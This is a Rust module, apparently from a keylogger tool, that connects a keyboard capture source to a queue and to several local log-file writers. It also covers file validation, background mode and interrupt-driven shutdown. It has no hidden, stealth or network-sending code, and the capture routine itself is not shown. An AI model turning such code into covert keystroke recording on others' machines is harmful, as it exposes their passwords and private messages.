//! Wires the capture source, the event queue and the log file writers together.
//!
//! ```text
//!                                 +--> FileWriterWorker --> log file 1
//! CaptureSource --> EventQueue ---+--> FileWriterWorker --> log file 2
//!                                 +--> ...
//! ```
//!
//! The writers are started (and their log files validated) before the capture source, so they
//! see every captured key. A log file that fails validation is reported and skipped; the other
//! writers carry on.

use crate::capture::CaptureSource;
use crate::config::{CaptureMode, PipelineConfig};
use crate::error::{FileError, FileErrorKind, KeyloggerError};
use crate::keyboard::{keyboard_events, KeyEvent};
use crate::queue::EventQueue;
use crate::status::{ConsoleStatus, StatusSink};
use crate::worker::{FileWriterWorker, SinkReport, WorkerHandle};
use crate::KeyloggerResult;
use futures::future::join_all;
use futures::Stream;
use std::sync::Arc;
use tokio::signal::unix::{signal, Signal, SignalKind};
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

/// What the pipeline did before it stopped.
#[derive(Debug)]
pub struct PipelineReport {
    /// The number of key presses pushed to the queue.
    pub captured: u64,
    /// One report per log file that passed validation.
    pub sinks: Vec<SinkReport>,
    /// The log files that failed validation.
    pub failures: Vec<FileError>,
}

/// The keylogger: one capture source feeding any number of log files.
pub struct LoggingPipeline {
    config: PipelineConfig,
    status: Arc<dyn StatusSink>,
    queue: EventQueue,
    shutdown: CancellationToken,
    abort: CancellationToken,
}

impl LoggingPipeline {
    /// Create a pipeline that reports its status to the console.
    pub fn configure(config: PipelineConfig) -> Self {
        for sink in &config.sinks {
            tracing::debug!(
                path = %sink.path.display(),
                overwrite = sink.overwrite,
                "configured log file"
            );
        }

        Self {
            config,
            status: Arc::new(ConsoleStatus::new()),
            queue: EventQueue::new(),
            shutdown: CancellationToken::new(),
            abort: CancellationToken::new(),
        }
    }

    #[must_use]
    pub fn with_status(mut self, status: Arc<dyn StatusSink>) -> Self {
        self.status = status;
        self
    }

    pub fn config(&self) -> &PipelineConfig {
        &self.config
    }

    /// The queue the captured events are pushed to.
    pub fn queue(&self) -> &EventQueue {
        &self.queue
    }

    /// Cancelling this token stops the capture and closes every log file.
    pub fn shutdown_token(&self) -> CancellationToken {
        self.shutdown.clone()
    }

    /// Cancelling this token aborts the log writers that are still running at shutdown.
    pub fn abort_token(&self) -> CancellationToken {
        self.abort.clone()
    }

    /// Capture the keys of every detected keyboard until the process is interrupted (Ctrl-C or
    /// SIGTERM). A second interrupt aborts the log writers still closing their files.
    pub async fn start(self) -> KeyloggerResult<PipelineRun> {
        let keys = keyboard_events()?;

        cancel_on_interrupt(
            self.shutdown.clone(),
            self.abort.clone(),
            Arc::clone(&self.status),
        )?;

        self.start_with(keys).await
    }

    /// Capture the key events of `keys` until the stream ends or the shutdown token is
    /// cancelled.
    ///
    /// In [`CaptureMode::Blocking`] this only returns once the capture stopped and every log file
    /// was closed. In [`CaptureMode::NonBlocking`] it returns as soon as everything is running.
    pub async fn start_with<S>(self, keys: S) -> KeyloggerResult<PipelineRun>
    where
        S: Stream<Item = KeyloggerResult<KeyEvent>> + Send + 'static,
    {
        let Self {
            config,
            status,
            queue,
            shutdown,
            abort,
        } = self;

        let (workers, failures) = start_workers(&config, &queue, &status, &shutdown).await;

        if workers.is_empty() {
            if config.require_sink {
                status.fatal(0, "No usable log file, not starting the keyboard listener");
                shutdown.cancel();
                return Err(KeyloggerError::NoUsableSinks);
            }

            status.warn(0, "No usable log file, captured keys will be dropped");
        }

        status.info(0, "Starting keyboard listener");

        let capture = CaptureSource::new(queue, config.throttle);
        let running = match config.mode {
            CaptureMode::Blocking => {
                let captured = capture.run(keys, shutdown.clone()).await;
                status.info(0, "Keyboard listener stopped");

                let report = close(shutdown, &abort, workers, failures, Ok(captured)).await?;

                return Ok(PipelineRun::Finished(report));
            }
            CaptureMode::NonBlocking => RunningPipeline {
                capture: capture.spawn(keys, shutdown.clone()),
                workers,
                failures,
                shutdown,
                abort,
                status,
            },
        };

        Ok(PipelineRun::Running(running))
    }
}

/// The outcome of [`LoggingPipeline::start`].
#[derive(Debug)]
pub enum PipelineRun {
    /// Blocking mode: the capture was interrupted and every log file is closed.
    Finished(PipelineReport),
    /// Non-blocking mode: the pipeline is still running.
    Running(RunningPipeline),
}

impl PipelineRun {
    /// Wait for the pipeline to stop.
    pub async fn wait(self) -> KeyloggerResult<PipelineReport> {
        match self {
            PipelineRun::Finished(report) => Ok(report),
            PipelineRun::Running(running) => running.wait().await,
        }
    }
}

/// A pipeline capturing in the background.
pub struct RunningPipeline {
    capture: JoinHandle<KeyloggerResult<u64>>,
    workers: Vec<WorkerHandle>,
    failures: Vec<FileError>,
    shutdown: CancellationToken,
    abort: CancellationToken,
    status: Arc<dyn StatusSink>,
}

impl std::fmt::Debug for RunningPipeline {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RunningPipeline")
            .field("workers", &self.workers)
            .field("failures", &self.failures)
            .field("cancelled", &self.shutdown.is_cancelled())
            .finish()
    }
}

impl RunningPipeline {
    /// The writers of the log files that passed validation.
    pub fn workers(&self) -> &[WorkerHandle] {
        &self.workers
    }

    /// The log files that failed validation.
    pub fn failures(&self) -> &[FileError] {
        &self.failures
    }

    pub fn shutdown_token(&self) -> CancellationToken {
        self.shutdown.clone()
    }

    pub fn abort_token(&self) -> CancellationToken {
        self.abort.clone()
    }

    /// Wait for the capture to stop (end of input or shutdown), then close every log file.
    pub async fn wait(self) -> KeyloggerResult<PipelineReport> {
        let captured = self.capture.await;
        self.status.info(0, "Keyboard listener stopped");

        close(
            self.shutdown,
            &self.abort,
            self.workers,
            self.failures,
            captured.map_err(KeyloggerError::from),
        )
        .await
    }

    /// Stop capturing and close every log file.
    pub async fn shutdown(self) -> KeyloggerResult<PipelineReport> {
        self.shutdown.cancel();
        self.wait().await
    }
}

/// Validate every log file concurrently and start a writer for each one that passes.
async fn start_workers(
    config: &PipelineConfig,
    queue: &EventQueue,
    status: &Arc<dyn StatusSink>,
    shutdown: &CancellationToken,
) -> (Vec<WorkerHandle>, Vec<FileError>) {
    let results = join_all(config.sinks.iter().cloned().map(|descriptor| {
        FileWriterWorker::new(descriptor, Arc::clone(status)).start(queue, shutdown.child_token())
    }))
    .await;

    let mut workers = Vec::new();
    let mut failures = Vec::new();

    for result in results {
        match result {
            Ok(worker) => {
                status.ok(0, &format!("Logging to {}", worker.path().display()));
                workers.push(worker);
            }
            Err(e) => {
                status.error(1, &e.to_string());
                if e.kind() == FileErrorKind::AlreadyExists {
                    status.info(2, "Consider enabling overwrite");
                }
                failures.push(e);
            }
        }
    }

    (workers, failures)
}

/// Stop every writer and collect the reports. Writers still running once `abort` is cancelled
/// are aborted.
async fn close(
    shutdown: CancellationToken,
    abort: &CancellationToken,
    workers: Vec<WorkerHandle>,
    failures: Vec<FileError>,
    captured: KeyloggerResult<KeyloggerResult<u64>>,
) -> KeyloggerResult<PipelineReport> {
    shutdown.cancel();

    let sinks = join_all(workers.into_iter().map(|w| w.join_or_abort(abort))).await;

    Ok(PipelineReport {
        captured: captured??,
        sinks,
        failures,
    })
}

/// Cancel `shutdown` on Ctrl-C or SIGTERM, and `abort` on the interrupt after that.
fn cancel_on_interrupt(
    shutdown: CancellationToken,
    abort: CancellationToken,
    status: Arc<dyn StatusSink>,
) -> KeyloggerResult<()> {
    let mut terminate = signal(SignalKind::terminate())?;

    tokio::spawn(async move {
        tokio::select! {
            _ = shutdown.cancelled() => {}
            _ = interrupted(&mut terminate) => {
                status.warn(0, "Interrupted, stopping");
                shutdown.cancel();
            }
        }

        tokio::select! {
            _ = abort.cancelled() => {}
            _ = interrupted(&mut terminate) => {
                status.fatal(0, "Interrupted again, aborting the remaining loggers");
                abort.cancel();
            }
        }
    });

    Ok(())
}

/// Wait for Ctrl-C or SIGTERM.
async fn interrupted(terminate: &mut Signal) {
    tokio::select! {
        res = tokio::signal::ctrl_c() => {
            if let Err(e) = res {
                // Only SIGTERM can stop us now
                tracing::warn!(error = %e, "failed to listen for Ctrl-C");
                terminate.recv().await;
            }
        }
        _ = terminate.recv() => {}
    }
}
